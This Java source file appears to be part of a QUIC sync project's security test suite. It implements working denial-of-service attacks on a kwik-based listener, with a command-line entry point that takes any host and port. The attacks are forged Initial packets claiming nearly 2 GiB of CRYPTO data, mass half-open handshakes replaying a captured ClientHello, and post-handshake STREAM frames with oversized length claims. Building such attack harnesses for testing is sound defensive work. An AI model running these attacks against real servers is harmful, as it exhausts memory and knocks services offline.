package aranya.sync.quic;

import java.io.IOException;
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.SocketException;
import java.net.SocketTimeoutException;
import java.nio.ByteBuffer;
import java.nio.channels.DatagramChannel;
import java.nio.channels.SelectionKey;
import java.nio.channels.Selector;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.SecureRandom;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.HashSet;
import java.util.HexFormat;
import java.util.List;
import java.util.Set;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.locks.LockSupport;
import tech.kwik.core.QuicClientConnection;
import tech.kwik.core.QuicStream;

/**
 * The pre-authentication attacks on a sync listener, bounded in count and time: hand-made
 * Initial packets whose CRYPTO frame claims 2^31 - 64 bytes, and many half-open handshakes
 * (a real ClientHello replayed from many ports, never continued). Used by the tests and, as a
 * program, to attack a node running in another JVM:
 * <pre>
 * java -cp ... aranya.sync.quic.PreAuthAttack initials HOST:PORT COUNT [SOURCE_IP [CLAIMED_BYTES]]
 * java -cp ... aranya.sync.quic.PreAuthAttack half-open HOST:PORT COUNT [SOURCE_IP]
 * java -cp ... aranya.sync.quic.PreAuthAttack stream-claims HOST:PORT COUNT
 * </pre>
 * {@code stream-claims} is what remains past the gate: a peer completes the QUIC handshake
 * (which needs no team secret), then sends 1-RTT packets whose STREAM frame claims
 * 2^31 - 64 bytes, one per new connection. The gate cannot read 1-RTT packets; kwik
 * allocates the claimed length while parsing them.
 */
public final class PreAuthAttack {
    /** What the malicious CRYPTO frames claim to hold: just under 2 GiB, as found against kwik 0.10.8. */
    static final long CLAIMED_CRYPTO_LENGTH = (1L << 31) - 64;
    private static final int DATAGRAM_SIZE = 1200;
    /** Datagrams sent back to back before a 1 ms pause, so the target's socket buffer, not the attack, decides what arrives. */
    private static final int BURST = 20;
    private static final SecureRandom RANDOM = new SecureRandom();

    private PreAuthAttack() {}

    /** Bytes sent and received by an attack, and how many of its handshakes the server answered. */
    record Outcome(int sent, long bytesSent, long bytesReceived, int answered) {
        double amplification() {
            return bytesSent == 0 ? 0 : (double) bytesReceived / bytesSent;
        }

        @Override
        public String toString() {
            return String.format("sent %d datagrams (%d B), received %d B, %d of %d handshakes answered, amplification %.2f",
                    sent, bytesSent, bytesReceived, answered, sent, amplification());
        }
    }

    /** A real kwik ClientHello and the source connection id it names in its transport parameters. */
    record CapturedHello(byte[] clientHello, byte[] scid) {}

    /** count Initial packets to target from source, each to a new connection id, each claiming 2^31 - 64 bytes of CRYPTO data. */
    static Outcome maliciousInitials(InetSocketAddress target, int count, InetAddress source) throws IOException {
        return maliciousInitials(target, count, source, CLAIMED_CRYPTO_LENGTH);
    }

    /**
     * As above, each claiming claimedBytes: a claim that fits in the target's heap is allocated,
     * and filled heaps are what made kwik's receiver fail.
     */
    static Outcome maliciousInitials(InetSocketAddress target, int count, InetAddress source, long claimedBytes) throws IOException {
        long bytes = 0;
        try (DatagramSocket socket = new DatagramSocket(new InetSocketAddress(source, 0))) {
            for (int i = 0; i < count; i++) {
                byte[] frames = InitialPacketForge.cryptoClaiming(0, claimedBytes, new byte[64]);
                byte[] datagram = InitialPacketForge.initial(random(8), random(8), 0, frames, DATAGRAM_SIZE);
                socket.send(new DatagramPacket(datagram, datagram.length, target));
                bytes += datagram.length;
                pauseAfterBurst(i);
            }
        }
        return new Outcome(count, bytes, 0, 0);
    }

    /**
     * count handshakes to target, each from a port of its own on source, each the captured
     * ClientHello under a new connection id; none is ever continued. Counts what comes back
     * for listenFor after the last is sent.
     */
    static Outcome halfOpen(InetSocketAddress target, int count, InetAddress source, CapturedHello hello, Duration listenFor)
            throws IOException {
        List<DatagramChannel> channels = new ArrayList<>(count);
        long bytesSent = 0;
        long bytesReceived = 0;
        Set<DatagramChannel> answered = new HashSet<>();
        try (Selector selector = Selector.open()) {
            try {
                for (int i = 0; i < count; i++) {
                    DatagramChannel channel = DatagramChannel.open().bind(new InetSocketAddress(source, 0));
                    channels.add(channel);
                    channel.configureBlocking(false);
                    channel.register(selector, SelectionKey.OP_READ);
                    byte[] datagram = InitialPacketForge.initial(random(8), hello.scid(), 0,
                            InitialPacketForge.crypto(0, hello.clientHello()), DATAGRAM_SIZE);
                    bytesSent += channel.send(ByteBuffer.wrap(datagram), target);
                    pauseAfterBurst(i);
                }
                ByteBuffer buffer = ByteBuffer.allocate(2048);
                long end = System.nanoTime() + listenFor.toNanos();
                for (long left = listenFor.toMillis(); left > 0; left = (end - System.nanoTime()) / 1_000_000) {
                    if (selector.select(left) == 0) {
                        continue;
                    }
                    for (SelectionKey key : selector.selectedKeys()) {
                        DatagramChannel channel = (DatagramChannel) key.channel();
                        for (buffer.clear(); channel.receive(buffer) != null; buffer.clear()) {
                            bytesReceived += buffer.position();
                            answered.add(channel);
                        }
                    }
                    selector.selectedKeys().clear();
                }
            } finally {
                for (DatagramChannel channel : channels) {
                    channel.close();
                }
            }
        }
        return new Outcome(count, bytesSent, bytesReceived, answered.size());
    }

    /**
     * count times: completes a handshake with target as a kwik client, then sends a 1-RTT
     * packet, protected with the client's own keys, holding a STREAM frame that claims 2^31 - 64
     * bytes. Returns how many handshakes completed.
     */
    static int streamClaims(InetSocketAddress target, int count) throws Exception {
        int connected = 0;
        for (int i = 0; i < count; i++) {
            Path secrets = Files.createTempFile("pre-auth-attack", ".keys");
            RecordingSocket[] socket = new RecordingSocket[1];
            QuicClientConnection client = QuicClientConnection.newBuilder()
                    .host(target.getHostString())
                    .port(target.getPort())
                    .applicationProtocol(SyncListener.ALPN)
                    .connectTimeout(Duration.ofSeconds(5))
                    .noServerCertificateCheck()
                    .secrets(secrets)
                    .socketFactory(destination -> socket[0] = new RecordingSocket())
                    .logger(new KwikLog(PreAuthAttack.class.getName() + ".kwik"))
                    .build();
            try {
                client.connect();
                connected++;
                QuicStream stream = client.createStream(true);
                stream.getOutputStream().write(1); // a 1-RTT packet, which shows the server's connection id
                byte[] dcid = socket[0].awaitShortHeaderDcid();
                InitialKeys keys = applicationKeys(Files.readAllLines(secrets));
                byte[] frame = InitialPacketForge.concat(new byte[] {0x0a, 0x04}, // STREAM with a length, stream 4
                        InitialPacketForge.varint(CLAIMED_CRYPTO_LENGTH, 8), new byte[64]);
                byte[] packet = InitialPacketForge.shortHeader(keys, dcid, 1000, frame);
                socket[0].send(new DatagramPacket(packet, packet.length, target));
            } catch (IOException e) {
                System.err.println("handshake " + i + " failed: " + e.getMessage());
            } finally {
                client.close();
                Files.deleteIfExists(secrets);
            }
        }
        return connected;
    }

    /** The client's 1-RTT keys from a key log (CLIENT_TRAFFIC_SECRET_0, TLS_AES_128_GCM_SHA256: RFC 9001 §5.1). */
    private static InitialKeys applicationKeys(List<String> keyLog) {
        String line = keyLog.stream().filter(l -> l.startsWith("CLIENT_TRAFFIC_SECRET_0 ")).findFirst()
                .orElseThrow(() -> new IllegalStateException("no 1-RTT secret in the key log"));
        byte[] secret = HexFormat.of().parseHex(line.substring(line.lastIndexOf(' ') + 1));
        return new InitialKeys(InitialKeys.expandLabel(secret, "quic key", 16), InitialKeys.expandLabel(secret, "quic iv", 12),
                InitialKeys.expandLabel(secret, "quic hp", 16));
    }

    /** A client socket that remembers the destination connection id of the first 1-RTT packet it sends. */
    private static final class RecordingSocket extends DatagramSocket {
        private final CompletableFuture<byte[]> shortHeaderDcid = new CompletableFuture<>();

        RecordingSocket() throws SocketException {
            super();
        }

        @Override
        public void send(DatagramPacket packet) throws IOException {
            byte[] data = packet.getData();
            if ((data[packet.getOffset()] & 0x80) == 0 && packet.getLength() > 9) {
                shortHeaderDcid.complete(Arrays.copyOfRange(data, packet.getOffset() + 1, packet.getOffset() + 9));
            }
            super.send(packet);
        }

        byte[] awaitShortHeaderDcid() throws Exception {
            return shortHeaderDcid.get(5, TimeUnit.SECONDS);
        }
    }

    /** Lets a kwik client start a handshake with a socket that never answers, and keeps its ClientHello. */
    static CapturedHello captureClientHello() throws Exception {
        try (DatagramSocket fakeServer = new DatagramSocket(new InetSocketAddress(InetAddress.getByName(QuicFixtures.HOST), 0))) {
            fakeServer.setSoTimeout(10_000);
            QuicClientConnection client = SyncConnector.kwikClient(QuicFixtures.HOST, fakeServer.getLocalPort(),
                    QuicFixtures.config(), Duration.ofSeconds(1));
            Thread connecting = Thread.ofVirtual().start(() -> {
                try {
                    client.connect();
                } catch (IOException expected) {
                    // nobody answers: the connect times out
                }
            });
            byte[] buffer = new byte[1500];
            DatagramPacket datagram = new DatagramPacket(buffer, buffer.length);
            try {
                fakeServer.receive(datagram);
            } catch (SocketTimeoutException e) {
                throw new IllegalStateException("kwik's client sent no Initial within 10 s", e);
            }
            client.close();
            connecting.join();
            LongHeaderPacket initial = LongHeaderPacket.parse(buffer, 0, datagram.getLength()).get(0);
            byte[] payload = new InitialPacketOpener().open(buffer, initial, InitialKeys.client(initial.dcid()));
            return new CapturedHello(cryptoData(payload), initial.scid());
        }
    }

    /** The handshake data of the CRYPTO frames at offset 0 in an Initial's payload (a kwik ClientHello fits in one). */
    private static byte[] cryptoData(byte[] payload) throws InvalidPacketException {
        PacketReader reader = new PacketReader(payload, 0, payload.length);
        while (reader.hasRemaining()) {
            int type = reader.u8();
            if (type == InitialPacketForge.CRYPTO) {
                long offset = reader.varint();
                int length = (int) reader.varint();
                if (offset == 0) {
                    return reader.bytes(length, "the ClientHello");
                }
                reader.skip(length, "CRYPTO data");
            } else if (type != InitialPacketForge.PADDING && type != 0x01) {
                throw new IllegalStateException("unexpected frame type " + type + " in kwik's first Initial");
            }
        }
        throw new IllegalStateException("no CRYPTO frame at offset 0 in kwik's first Initial");
    }

    private static void pauseAfterBurst(int sent) {
        if (sent % BURST == BURST - 1) {
            LockSupport.parkNanos(1_000_000);
        }
    }

    private static byte[] random(int length) {
        byte[] bytes = new byte[length];
        RANDOM.nextBytes(bytes);
        return bytes;
    }

    public static void main(String[] args) throws Exception {
        if (args.length < 3) {
            System.err.println("usage: PreAuthAttack initials|half-open|stream-claims HOST:PORT COUNT [SOURCE_IP [CLAIMED_BYTES]]");
            System.exit(2);
        }
        int colon = args[1].lastIndexOf(':');
        InetSocketAddress target = new InetSocketAddress(args[1].substring(0, colon), Integer.parseInt(args[1].substring(colon + 1)));
        int count = Integer.parseInt(args[2]);
        InetAddress source = InetAddress.getByName(args.length > 3 ? args[3] : "127.0.0.1");
        Outcome outcome = switch (args[0]) {
            case "initials" -> maliciousInitials(target, count, source, args.length > 4 ? Long.parseLong(args[4]) : CLAIMED_CRYPTO_LENGTH);
            case "half-open" -> halfOpen(target, count, source, captureClientHello(), Duration.ofSeconds(5));
            case "stream-claims" -> {
                int connected = streamClaims(target, count);
                yield new Outcome(connected, 0, 0, connected);
            }
            default -> throw new IllegalArgumentException("initials or half-open, got " + args[0]);
        };
        System.out.println(args[0] + ": " + outcome);
    }
}
